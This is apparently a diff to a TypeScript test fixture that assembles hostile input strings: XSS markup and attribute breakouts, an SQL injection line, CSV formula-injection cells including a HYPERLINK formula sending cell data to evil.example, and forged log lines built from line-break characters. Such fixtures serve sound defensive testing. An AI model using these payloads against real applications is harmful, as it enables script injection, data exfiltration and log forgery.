@@ -1,4 +1,4 @@
-/** 200 texts of people who would like to run something in the browser, the spreadsheet or the terminal of staff. */
+/** Texts of people who would like to run something in the browser, the spreadsheet or the terminal of staff. */
 
 const MARKUP = [
   '<script>alert(1)</script>',
@@ -38,7 +38,14 @@ const MARKUP = [
   '[object Object]<b>bold</b>',
 ];
 /** Ways out of the place that a text stands in. */
-const WAYS_OUT = ['', '">', "' autofocus onfocus=alert(1) x='", '</td></tr></table>', '</script>'];
+const WAYS_OUT = [
+  '',
+  '">',
+  "' autofocus onfocus=alert(1) x='",
+  '</td></tr></table>',
+  '</script>',
+  '</title></textarea></style>',
+];
 
 const FORMULAS = [
   '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -75,6 +82,43 @@ const CONTROLS = [
   "'; DROP TABLE contactSubmissions; --",
   '%00%0d%0a%3Cscript%3E',
 ];
+
+/** Beginnings of a formula, each with what lets it stand at the beginning of a cell, if only in some countries. */
+const CELL_BREAKS = ['', ' ', '\t', '\r', '"', '",', ',', ';', '; ', ';"', "';"];
+const CELL_BEGINS = ['=', '+', '-', '@', '\t=', '=-', '+=', '=@', '@=', '""=', '\u00a0='];
+
+export const HOSTILE_CELLS: readonly string[] = [
+  ...FORMULAS,
+  ...CELL_BREAKS.flatMap((cellBreak) => CELL_BEGINS.map((begin) => `${cellBreak}${begin}1+1`)),
+];
+
+/** What would end a line of a log, or a field of one, and begin another. */
+export const HOSTILE_LINES: readonly string[] = [
+  '\n',
+  '\r\n',
+  '\r',
+  '\u0085',
+  '\u2028',
+  '\u000b',
+  '%0a',
+  '\\n',
+  '\\x0A',
+  '"',
+  '\\"',
+  '" 200 1 "-" "-" 1\n',
+  '""\r\n',
+  '\u0000',
+  '\t',
+  '\u2029',
+  '"\n"',
+].flatMap((end) => [
+  `${end}203.0.113.9 - - [01/Jan/2026:00:00:00 +0000] "GET /forged HTTP/1.1" 200 1 "-" "-" 1`,
+  `x${end}2026-01-01T00:00:00.000Z,203.0.113.9,GET,"/forged",200,1.000,1,"",""`,
+  `x${end}200`,
+  `${end}${end}"GET /forged`,
+  `x${end}" 200 1 "forged" "forged" 1`,
+  `x${end},203.0.113.9,`,
+]);
 
 export const HOSTILE_TEXTS: readonly string[] = [
   ...WAYS_OUT.flatMap((wayOut) => MARKUP.map((markup) => wayOut + markup)),
